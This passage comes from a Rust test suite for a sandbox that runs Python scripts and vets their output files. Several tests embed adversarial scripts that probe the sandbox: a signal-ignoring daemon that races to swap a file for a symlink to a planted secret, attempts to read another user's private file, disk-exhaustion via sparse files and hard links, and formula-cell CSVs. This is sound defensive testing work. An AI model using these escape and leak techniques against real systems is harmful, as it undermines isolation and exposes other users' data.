}

#[test]
fn created_modified_unchanged_and_deleted_are_told_apart_on_a_prefilled_output() {
    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
        changes_case(mode);
    }
}

fn changes_case(mode: OutputMode) {
    let mut sb = Sandbox::new();
    with_policy(&mut sb, mode, serde_json::json!({}));
    // Bound, the script changes the host's files themselves, and os.utime
    // needs their owner; concurrent root runs get different uids of the
    // range (hostuid.rs), so this run gets one no other run takes.
    let pinned = jail::hostuid::DEFAULT_FIRST + jail::hostuid::DEFAULT_COUNT;
    if mode == OutputMode::Bound && is_root() {
        let path = sb.dir.path().join("policy.json");
        let mut policy: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        policy["identity"]["root_host_uids"] = serde_json::json!({"first": pinned, "count": 1});
        std::fs::write(&path, policy.to_string()).unwrap();
    }
    let give = |p: &std::path::Path| {
        give_to_sandbox(p);
        if mode == OutputMode::Bound && is_root() {
            std::os::unix::fs::chown(p, Some(pinned), None).unwrap();
        }
    };
    std::fs::create_dir(sb.output.join("sub")).unwrap();
    for name in ["keep.txt", "edit.txt", "forged.txt", "gone.txt", "sub/old.txt"] {
        let p = sb.output.join(name);
        std::fs::write(&p, "v1\n").unwrap();
        give(&p);
    }
    give(&sb.output.join("sub"));
    let (r, _) = run_ok(
        &sb,
        r#"
import os
open("edit.txt", "a").write("v2\n")
st = os.stat("forged.txt")
open("forged.txt", "w").write("v2\n")
os.utime("forged.txt", ns=(st.st_atime_ns, st.st_mtime_ns))
os.remove("gone.txt")
os.remove("sub/old.txt")
open("new.txt", "w").write("n\n")
"#,
    );
    let changes: BTreeMap<&str, Change> = r.artifacts.iter().map(|a| (a.path.as_str(), a.change)).collect();
    let expect = BTreeMap::from([
        ("keep.txt", Change::Unchanged),
        ("edit.txt", Change::Modified),
        ("forged.txt", Change::Modified),
        ("gone.txt", Change::Deleted),
        ("sub/old.txt", Change::Deleted),
        ("new.txt", Change::Created),
    ]);
    assert_eq!(changes, expect, "{mode:?}");
    let gone = artifact(&r, "gone.txt");
    assert_eq!((gone.bytes, gone.sha256.as_deref(), gone.media_type.as_deref()), (3, None, None));
}

/// Runs root starts one after another on one output folder may get
/// different host uids of the range (a concurrent run held the first one:
/// hostuid.rs), as the steps of an agent session do. What one run left there
/// must still be readable and writable by the next. Capped, the host files
/// are the caller's, 0600 as the script made them; bound, the script writes
/// them as its own uid, so there they are its shared group's too (umask
/// 007), never anyone else's. An ordinary caller's are the caller's alone
/// (077). The two runs are pinned to two uids here; bound, without the
/// group bits, the second run gets EACCES on the first one's file.
#[test]
fn a_later_run_on_another_host_uid_reads_and_rewrites_what_an_earlier_run_left() {
    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
        later_run_case(mode);
    }
}

fn later_run_case(mode: OutputMode) {
    let mut sb = Sandbox::new();
    with_policy(&mut sb, mode, serde_json::json!({}));
    let path = sb.dir.path().join("policy.json");
    let pin = |uid: u32| {
        let mut policy: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        policy["identity"]["root_host_uids"] = serde_json::json!({"first": uid, "count": 1});
        std::fs::write(&path, policy.to_string()).unwrap();
    };
    // Outside the default range, and apart from the uid other tests pin.
    let first = jail::hostuid::DEFAULT_FIRST + jail::hostuid::DEFAULT_COUNT + 1;
    pin(first);
    let (a, _) = run_ok(
        &sb,
        r#"
import os
os.makedirs("sub")
open("sub/summary.csv", "w").write("class,n\n1,3\n")
"#,
    );
    pin(first + 1);
    let (b, _) = run_ok(
        &sb,
        r#"
print(open("sub/summary.csv").read().splitlines()[-1])
open("sub/summary.csv", "a").write("2,4\n")
"#,
    );
    if is_root() {
        assert_eq!((a.isolation.host_uid, b.isolation.host_uid), (first, first + 1), "{mode:?}");
    }
    assert_eq!(b.stdout.text, "1,3\n", "{mode:?}: the second run did not see the first one's file: {:?}", b.output_sync);
    assert_eq!(std::fs::read_to_string(sb.output.join("sub/summary.csv")).unwrap(), "class,n\n1,3\n2,4\n", "{mode:?}");
    let (file, dir) = if is_root() && mode == OutputMode::Bound {
        (0o660, 0o770)
    } else {
        (0o600, 0o700)
    };
    let mode_of = |p: &str| std::fs::symlink_metadata(sb.output.join(p)).unwrap().mode() & 0o7777;
    assert_eq!((mode_of("sub/summary.csv"), mode_of("sub")), (file, dir), "{mode:?}");
}

#[test]
fn collection_starts_only_after_the_whole_tree_is_dead() {
    let mut sb = Sandbox::new();
    // Bound: the daemon writes the host folder itself, the case where a
    // walk racing a live tree could be fooled.
    with_policy(&mut sb, OutputMode::Bound, serde_json::json!({}));
    let secret = plant_secret();
    let marker = format!("jail-swapper-{}", std::process::id());
    let host = secret.path.display().to_string();
    // A daemon that keeps swapping swap.txt between a file and a link to the
    // secret, immune to SIGTERM and SIGHUP, outliving the script.
    let (r, out) = run_ok(
        &sb,
        &format!(
            r#"
import os, sys, time
code = '''
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
os.setsid()
i = 0
while True:
    try:
        os.symlink({host:?}, "next.txt")
    except FileExistsError:
        pass
    os.replace("next.txt", "swap.txt")
    with open("next.txt", "w") as f:
        f.write("plain %d" % i)
    os.replace("next.txt", "swap.txt")
    i += 1
    with open("beat.txt", "w") as f:
        f.write(str(i))
'''
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", code, {marker:?}])
while not os.path.exists("beat.txt"):
    time.sleep(0.001)
time.sleep(0.05)
"#
        ),
    );
    // The supervisor reaped PID 1 (so the namespace was empty) before it
    // looked at the output dir.
    assert!(stage(&r, "reaped") <= stage(&r, "artifacts_start"), "{:?}", r.timings.stages);
    for x in &r.rejected_artifacts {
        assert!(matches!(x.reason, RejectReason::Symlink), "{x:?}");
    }
    let swap_seen = r.artifacts.iter().any(|a| a.path == "swap.txt") || rejected(&r).contains_key("swap.txt");
    assert!(swap_seen, "{:?} {:?}", r.artifacts, r.rejected_artifacts);
    assert!(!String::from_utf8_lossy(&out.stdout).contains(&secret.canary));
    // Nothing is left running to change the dir after the result.
    assert!(host_processes_with(&marker).is_empty());
    let beat = std::fs::read_to_string(sb.output.join("beat.txt")).unwrap();
    let swap = std::fs::symlink_metadata(sb.output.join("swap.txt")).ok().map(|m| (m.ino(), m.ctime_nsec()));
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(std::fs::read_to_string(sb.output.join("beat.txt")).unwrap(), beat);
    let swap_now = std::fs::symlink_metadata(sb.output.join("swap.txt")).ok();
    assert_eq!(swap, swap_now.as_ref().map(|m| (m.ino(), m.ctime_nsec())));
    // What the result says about swap.txt is what is there now: an accepted
    // file, or a link that was moved out of the folder.
    match r.artifacts.iter().find(|a| a.path == "swap.txt") {
        Some(a) => {
            let bytes = std::fs::read(sb.output.join("swap.txt")).unwrap();
            assert!(!swap_now.unwrap().file_type().is_symlink());
            assert_eq!(a.sha256.as_deref(), Some(jail::digest::sha256_hex(&bytes).as_str()));
        }
        None => {
            assert!(swap_now.is_none(), "a refused link stayed in the bound folder");
            let x = r.rejected_artifacts.iter().find(|x| x.path == "swap.txt").unwrap();
            assert!(std::fs::symlink_metadata(x.moved_to.as_ref().unwrap()).unwrap().file_type().is_symlink());
        }
    }
    if let Some(q) = &r.quarantine_dir {
        let _ = std::fs::remove_dir_all(q);
    }
}

#[test]
fn input_is_digested_before_and_after_and_reported_unchanged() {
    let sb = Sandbox::new();
    sb.input_file("data.csv", b"a,b\n1,2\n");
    sb.input_file("notes.txt", b"hello\n");
    let (r, _) = run_ok(
        &sb,
        r#"
try:
    open("/workspace/input/data.csv", "a").write("x")
except OSError as e:
    print(type(e).__name__)
"#,
    );
    assert!(r.stdout.text.contains("OSError") || r.stdout.text.contains("PermissionError"), "{}", r.stdout.text);
    let input = r.input.as_ref().expect("an input report");
    assert!(input.unchanged);
    assert_eq!(input.sha256_before, input.sha256_after);
    assert_eq!((input.files, input.bytes, input.content_hashed, input.complete), (2, 14, true, true));
    // Without --input there is nothing to report.
    let mut cmd = std::process::Command::new(jail_bin());
    cmd.args(["run", "--json", "--rootfs"])
        .arg(rootfs())
        .arg("--output")
        .arg(&sb.output)
        .arg(sb.script("print(1)"));
    let r = parse(&cmd.output().unwrap());
    assert_eq!(r.status, Status::Ok);
    assert_eq!(r.input, None);
}

#[test]
fn a_fresh_output_dir_is_made_reported_and_collected_when_none_is_given() {
    let sb = Sandbox::new();
    let script = sb.script("open('hello.txt', 'w').write('hi\\n')");
    let out = std::process::Command::new(jail_bin())
        .args(["run", "--json", "--rootfs"])
        .arg(rootfs())
        .arg(script)
        .output()
        .unwrap();
    let r = parse(&out);
    assert_eq!(r.status, Status::Ok, "{}", r.stderr.text);
    let dir = PathBuf::from(r.output_dir.clone().expect("output_dir"));
    let hello = artifact(&r, "hello.txt");
    assert_eq!(hello.change, Change::Created);
    assert_eq!(std::fs::read_to_string(dir.join("hello.txt")).unwrap(), "hi\n");
    assert!(dir.starts_with(std::env::temp_dir()) || Path::new(&dir).exists());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// An output folder as `mktemp -d` makes it: the caller's own, mode 0700
/// (so, for root, closed to every sandbox uid), with the default policy's
/// size-capped output dir.
fn private_output(sb: &mut Sandbox) -> tempfile::TempDir {
    let dir = tempfile::Builder::new().prefix("jail-mktemp-").tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    let m = std::fs::metadata(dir.path()).unwrap();
    assert_eq!((m.uid(), m.mode() & 0o777), (nix::unistd::getuid().as_raw(), 0o700));
    sb.output = dir.path().to_path_buf();
    dir
}

/// Issue 15 item 8: `jail run --output "$(mktemp -d)"` works for root as
/// for anyone, and what the host receives is the caller's.
#[test]
fn an_output_dir_from_mktemp_works_and_what_arrives_is_the_callers() {
    let mut sb = Sandbox::new();
    let _dir = private_output(&mut sb);
    let (r, _) = run_ok(&sb, "open('result.txt', 'w').write('done\\n')\n");
    assert_eq!(artifact(&r, "result.txt").change, Change::Created);
    let got = sb.output.join("result.txt");
    assert_eq!(std::fs::read_to_string(&got).unwrap(), "done\n");
    assert_eq!(std::fs::metadata(&got).unwrap().uid(), nix::unistd::getuid().as_raw(), "owned by whoever ran jail");
}

/// The copy works on a root caller's folder as root without capabilities:
/// a file root could read only by overriding its mode is neither shown to
/// the script nor touched.
#[test]
fn as_root_another_users_private_file_in_the_output_dir_is_not_shown_and_stays_as_it_was() {
    if only_as_root("chown to another uid") {
        return;
    }
    let mut sb = Sandbox::new();
    let _dir = private_output(&mut sb);
    // A uid that is neither root nor any run's: the file is closed to root
    // by its mode bits.
    let other = jail::hostuid::DEFAULT_FIRST - 7;
    // Copied in first (names are walked in order): the copy has been the
    // sandbox, on the tmpfs side, before it reaches the private file.
    std::fs::write(sb.output.join("a-mine.txt"), "mine\n").unwrap();
    let private = sb.output.join("private.txt");
    std::fs::write(&private, "someone else's\n").unwrap();
    std::os::unix::fs::chown(&private, Some(other), Some(other)).unwrap();
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o600)).unwrap();
    let before = std::fs::metadata(&private).unwrap();
    let (r, _) = run_ok(
        &sb,
        r#"
import json, os
try:
    text = open("private.txt").read()
except OSError as e:
    text = type(e).__name__
print(json.dumps({"listed": sorted(os.listdir(".")), "read": text}))
open("mine.txt", "w").write("ok\n")
open("private.txt", "w").write("blind overwrite\n")
"#,
    );
    let v: serde_json::Value = serde_json::from_str(r.stdout.text.trim()).unwrap();
    assert_eq!(v["listed"], serde_json::json!(["a-mine.txt"]), "{v}");
    assert_eq!(v["read"], "FileNotFoundError", "{v}");
    let after = std::fs::metadata(&private).unwrap();
    assert_eq!(std::fs::read_to_string(&private).unwrap(), "someone else's\n");
    assert_eq!(
        (after.ino(), after.uid(), after.mode(), after.mtime_nsec(), after.ctime_nsec()),
        (before.ino(), before.uid(), before.mode(), before.mtime_nsec(), before.ctime_nsec())
    );
    assert_eq!(std::fs::read_to_string(sb.output.join("mine.txt")).unwrap(), "ok\n");
    // Nor replaced blindly by a file of the same name.
    assert_eq!(rejected(&r).get("private.txt"), Some(&RejectReason::Unreadable), "{:?}", r.rejected_artifacts);
}

/// A file the caller left in the folder is the script's to change inside
/// (copied in as the sandbox's), and arrives changed.
#[test]
fn a_callers_file_in_a_private_output_dir_can_be_changed_by_the_script() {
    let mut sb = Sandbox::new();
    let _dir = private_output(&mut sb);
    let notes = sb.output.join("notes.txt");
    std::fs::write(&notes, "v1\n").unwrap();
    std::fs::set_permissions(&notes, std::fs::Permissions::from_mode(0o644)).unwrap();
    let (r, _) = run_ok(&sb, "import os\nopen('notes.txt', 'a').write('v2\\n')\nos.chmod('notes.txt', 0o600)\n");
    assert_eq!(artifact(&r, "notes.txt").change, Change::Modified);
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "v1\nv2\n");
    let m = std::fs::metadata(&notes).unwrap();
    assert_eq!((m.uid(), m.mode() & 0o777), (nix::unistd::getuid().as_raw(), 0o600));
}

/// What `du` counts for a folder: the blocks every entry beneath it holds.
fn disk_usage(dir: &Path) -> u64 {
    let mut total = std::fs::symlink_metadata(dir).unwrap().blocks() * 512;
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let m = std::fs::symlink_metadata(e.path()).unwrap();
        total += if m.is_dir() { disk_usage(&e.path()) } else { m.blocks() * 512 };
    }
    total
}

#[test]
fn sparse_files_and_hard_links_cost_the_host_no_more_than_output_size_and_the_run_ends_on_time() {
    let mut sb = Sandbox::new();
    with_policy(&mut sb, OutputMode::Mirrored, serde_json::json!({}));
    let cap: u64 = 32 << 20;
    let policy_path = sb.dir.path().join("policy.json");
    let mut policy: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&policy_path).unwrap()).unwrap();
    policy["filesystem"]["output_size"] = "32M".into();
    std::fs::write(&policy_path, serde_json::to_string(&policy).unwrap()).unwrap();
    sb.extra_args.extend(["--timeout".into(), "4".into()]);
    let start = std::time::Instant::now();
    // Three 90 MiB files that hold a few bytes each (0 bytes of the cap),
    // and one 8 MiB file with 100 more names: 270 MiB and 800 MiB if copied
    // naively, against a 32 MiB cap. Then most of the wall time is used up,
    // so a copy that ran past the deadline would show.
    let (r, _) = run_ok(
        &sb,
        r#"
import os, time
t0 = time.monotonic()
for i in range(3):
    with open(f"sparse{i}.parquet", "wb") as f:
        f.truncate(90 << 20)
        f.seek(45 << 20)
        f.write(b"a few bytes")
with open("dense.parquet", "wb") as f:
    f.write(b"d" * (8 << 20))
for i in range(100):
    os.link("dense.parquet", f"link{i:03}.parquet")
time.sleep(max(0.0, 3.0 - (time.monotonic() - t0)))
"#,
    );
    let took = start.elapsed();
    // Every failure below prints the whole result: what was refused, why,
    // and when each stage ended.
    let doc = document(&r);
    let du = disk_usage(&sb.output);
    assert!(du <= cap, "the host folder holds {du} bytes on disk, over the {cap}-byte output_size\n{doc}");
    let s = r.output_sync.clone().unwrap();
    assert!(s.bytes_written <= cap, "{doc}");
    for i in 0..3 {
        // Accepted first, then on the host: an accepted file that never
        // arrived is a refusal the result names (copy_deadline, say).
        let name = format!("sparse{i}.parquet");
        assert_eq!(artifact(&r, &name).bytes, 90 << 20);
        let m = std::fs::metadata(sb.output.join(&name))
            .unwrap_or_else(|e| panic!("accepted {name} is not on the host ({e}):\n{doc}"));
        assert_eq!(m.len(), 90 << 20, "a sparse file arrives whole, holes and all\n{doc}");
    }
    assert_eq!(s.copied_out, 3, "{doc}");
    let rej = rejected(&r);
    assert_eq!(rej.get("dense.parquet"), Some(&RejectReason::HardLink), "{doc}");
    assert_eq!(rej.get("link042.parquet"), Some(&RejectReason::HardLink), "{doc}");
    assert!(!sb.output.join("dense.parquet").exists() && !sb.output.join("link000.parquet").exists());
    // On time: the wall limit, the copy's grace after the verdict, and what
    // a debug build needs to start and to judge 270 MiB of holes.
    let copy = stage(&r, "output_copy_out") - stage(&r, "artifacts");
    assert!(copy < 1500.0, "the copy took {copy} ms\n{doc}");
    // Judging 270 MiB takes what the machine's load makes it (its CPU is
    // bounded elsewhere); the rest is the run's and the copy's.
    let judging = Duration::from_secs_f64((stage(&r, "artifacts") - stage(&r, "artifacts_start")).max(0.0) / 1000.0);
    assert!(
        took.saturating_sub(judging) < Duration::from_secs(9),
        "the run took {took:?} ({judging:?} of it judging) for a 4 s limit\n{doc}"
    );
}

#[test]
fn a_jail_killed_mid_copy_leaves_no_partial_file_and_stale_ones_are_swept() {
    let sb = Sandbox::new();
    // A stale partial copy of a jail that died long ago (a pid above any
    // pid_max): the next run sweeps it.
    let stale = sb.output.join(".jail-partial-4194305-0");
    std::fs::write(&stale, "half a file").unwrap();
    if is_root() {
        std::os::unix::fs::chown(&stale, Some(sandbox_host_uid()), Some(sandbox_host_uid())).unwrap();
    }
    let script = sb.script(
        "for n in ('big', 'bigger'):\n    with open(n + '.parquet', 'wb') as f:\n        for _ in range(95):\n            f.write(b'b' * (1 << 20))\nprint('written', flush=True)\n",
    );
    let mut child = std::process::Command::new(jail_bin())
        .arg("run")
        .arg("--rootfs")
        .arg(&sb.rootfs)
        .arg("--output")
        .arg(&sb.output)
        .arg(script)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line).unwrap();
    assert_eq!(line, "written\n");
    // Kill jail the moment it holds a file open in the host folder: in the
    // middle of writing big.parquet there.
    let fds = PathBuf::from(format!("/proc/{}/fd", child.id()));
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    let mut caught = None;
    while caught.is_none() && std::time::Instant::now() < deadline {
        for e in std::fs::read_dir(&fds).into_iter().flatten().flatten() {
            if let Ok(target) = std::fs::read_link(e.path()) {
                if target.starts_with(&sb.output) && target != sb.output {
                    caught = Some(target);
                }
            }
        }
        if child.try_wait().unwrap().is_some() {
            break;
        }
    }
    let _ = child.kill();
    let _ = child.wait();
    let target = caught.expect("jail never had a file open in the host folder");
    let left = host_entries(&sb.output);
    assert!(
        !left.iter().any(|n| n.starts_with(".jail-partial-") && !n.contains("4194305")),
        "a partial file was left: {left:?} (it was writing {target:?})"
    );
    for n in ["big.parquet", "bigger.parquet"] {
        if let Ok(m) = std::fs::metadata(sb.output.join(n)) {
            assert_eq!(m.len(), 95 << 20, "a half-written file has the final name");
        }
    }
    // The next run sweeps the dead jail's partial (and copies nothing of it in).
    let (r, _) = run_ok(&sb, "import os\nprint(sorted(n for n in os.listdir('.') if 'partial' in n))\n");
    assert_eq!(r.stdout.text.trim(), "[]");
    assert!(!stale.exists(), "the stale partial copy was not swept");
}

/// The output tmpfs is judged as the sandbox's host ids, without the
/// capabilities that override permissions: a root supervisor (a pod's
/// root, say) that holds neither CAP_DAC_OVERRIDE nor CAP_DAC_READ_SEARCH
/// still receives the script's 0600 file, and one the script made
/// unreadable to itself is refused as unreadable, never read as root.
#[test]
fn a_root_supervisor_judges_the_output_as_the_sandbox_needing_no_read_override() {
    if only_as_root("dropping root's read-override capabilities") {
        return;
    }
    let sb = Sandbox::new();
    let jail = sb.command(
        "import os\n\
         open('/workspace/output/private.txt', 'w').write('mine')\nos.chmod('/workspace/output/private.txt', 0o600)\n\
         open('/workspace/output/sealed.txt', 'w').write('sealed')\nos.chmod('/workspace/output/sealed.txt', 0)\n",
    );
    let mut cmd = std::process::Command::new("setpriv");
    cmd.arg("--bounding-set=-dac_override,-dac_read_search")
        .arg(jail.get_program())
        .args(jail.get_args());
    let out = cmd.output().expect("spawn setpriv jail");
    let r = parse(&out);
    assert_eq!(r.status, Status::Ok, "{r:?}\n{}", String::from_utf8_lossy(&out.stderr));
    let accepted: Vec<&str> = r.artifacts.iter().map(|a| a.path.as_str()).collect();
    assert_eq!(accepted, ["private.txt"], "{:?}", r.rejected_artifacts);
    assert_eq!(std::fs::read_to_string(sb.output.join("private.txt")).unwrap(), "mine");
    let sealed = r.rejected_artifacts.iter().find(|x| x.path == "sealed.txt").expect("sealed.txt refused");
    assert_eq!(sealed.reason, RejectReason::Unreadable, "{sealed:?}");
    assert!(!sb.output.join("sealed.txt").exists(), "a file the script could not read reached the host");
}

/// `jail run` for `source`, and the CPU its whole tree used, from wait4's
/// rusage of the `jail` process (the supervisor, and everything it reaped).
/// Reaped by that wait4, not by std's `wait`, which would keep the usage.
#[allow(clippy::zombie_processes)]
fn run_with_rusage(sb: &Sandbox, source: &str) -> (RunResult, Duration) {
    use std::io::Read;
    let mut child = sb
        .command(source)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn jail");
    let mut stderr = child.stderr.take().unwrap();
    let errs = std::thread::spawn(move || {
        let mut text = Vec::new();
        let _ = stderr.read_to_end(&mut text);
        text
    });
    let mut stdout = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut stdout).unwrap();
    let (status, usage) = jail::sys::wait4(nix::unistd::Pid::from_raw(child.id() as i32)).expect("wait4 jail");
    let stderr = errs.join().unwrap();
    use std::os::unix::process::ExitStatusExt;
    let out = std::process::Output { status: std::process::ExitStatus::from_raw(status), stdout, stderr };
    let tv = |t: libc::timeval| Duration::new(t.tv_sec as u64, t.tv_usec as u32 * 1000);
    (parse(&out), tv(usage.ru_utime) + tv(usage.ru_stime))
}

/// Judging is bounded in the host's CPU by construction (issue 32, item
/// 8): a script that leaves two ~99 MiB CSVs of formula cells (34 M cells
/// to neutralise) costs the supervisor its judging budget
/// (`budget::JUDGING_CPU`, 1 s) and no more; what the budget did not cover
/// is refused by name (the default) or, with `past_budget: "flag"`,
/// delivered as written and flagged `incomplete_scan`. Measured as CPU,
/// from the kernel's rusage of the `jail` process less the script's own
/// (its cgroup's), never as wall time: a loaded host changes neither.
#[test]
fn two_large_formula_csvs_cost_the_supervisor_its_judging_budget_and_no_more() {
    let leave = "row = ','.join(['=1+1'] * 20) + '\\n'\n\
                 n = (99 << 20) // len(row)\n\
                 for name in ('a.csv', 'b.csv'):\n\
                 \x20   with open(name, 'w') as f:\n\
                 \x20       for _ in range(n // 1000):\n\
                 \x20           f.write(row * 1000)\n";
    for past in ["refuse", "flag"] {
        let mut sb = Sandbox::new();
        // The default is to refuse.
        let rules = if past == "refuse" {
            serde_json::json!({})
        } else {
            serde_json::json!({"past_budget": past})
        };
        with_policy(&mut sb, OutputMode::Mirrored, rules);
        let (r, tree_cpu) = run_with_rusage(&sb, leave);
        let doc = document(&r);
        assert_eq!(r.status, Status::Ok, "{doc}");
        let script_cpu = Duration::from_secs_f64(
            (r.usage.user_cpu_ms.unwrap_or(0.0) + r.usage.system_cpu_ms.unwrap_or(0.0)).max(0.0) / 1000.0,
        );
        let supervisor_cpu = tree_cpu.saturating_sub(script_cpu);
        eprintln!(
            "{past}: supervisor CPU {supervisor_cpu:?} (judging {:?} ms), script {script_cpu:?}",
            r.supervisor.judging_cpu_ms
        );
        // The budget, one 64 KiB chunk past it, and what a debug build
        // needs to set the jail up and copy what it accepted.
        assert!(
            supervisor_cpu < Duration::from_millis(3000),
            "{past}: the supervisor used {supervisor_cpu:?} of CPU (the tree {tree_cpu:?}, the script {script_cpu:?})\n{doc}"
        );
        // Past the budget nothing more is read under `refuse`; under
        // `flag` the hash reads on (bounded by max_total_bytes) and what
        // is delivered is copied: at most 198 MiB each.
        let judging = r.supervisor.judging_cpu_ms.unwrap_or(f64::MAX);
        let most = if past == "refuse" { 1300.0 } else { 2300.0 };
        assert!(judging < most, "{past}: judging took {judging} ms of supervisor CPU\n{doc}");
        // Nothing vanished: each file is delivered or refused by name.
        for name in ["a.csv", "b.csv"] {
            let delivered = r.artifacts.iter().find(|a| a.path == name);
            let refused = r.rejected_artifacts.iter().find(|x| x.path == name);
            match past {
                "refuse" => {
                    // Within the budget a file is judged and neutralised in
                    // full, else refused: never delivered half-judged.
                    if let Some(a) = delivered {
                        assert!(a.neutralised.is_some(), "{name}\n{doc}");
                    } else {
                        let x = refused.unwrap_or_else(|| panic!("{name} vanished\n{doc}"));
                        assert!(matches!(x.reason, RejectReason::NotJudged | RejectReason::FormulaCells), "{doc}");
                        assert!(x.detail.contains("judging budget"), "{doc}");
                        assert!(!sb.output.join(name).exists(), "{doc}");
                    }
                }
                _ => {
                    let a = delivered.unwrap_or_else(|| panic!("{name} was not delivered under past_budget flag\n{doc}"));
                    if a.neutralised.is_none() {
                        // Stopped by the run's judging budget or, on a loaded
                        // host, by the file's own scan time first: flagged
                        // incomplete either way, never delivered as judged.
                        let flag = a.flags.iter().find(|f| f.kind == FlagKind::IncompleteScan);
                        assert!(
                            flag.is_some_and(|f| f.detail.contains("judging budget") || f.detail.contains("time budget")),
                            "{name}\n{doc}"
                        );
                    }
                    assert_eq!(std::fs::metadata(sb.output.join(name)).unwrap().len(), a.bytes, "{doc}");
                }
            }
        }
    }
}
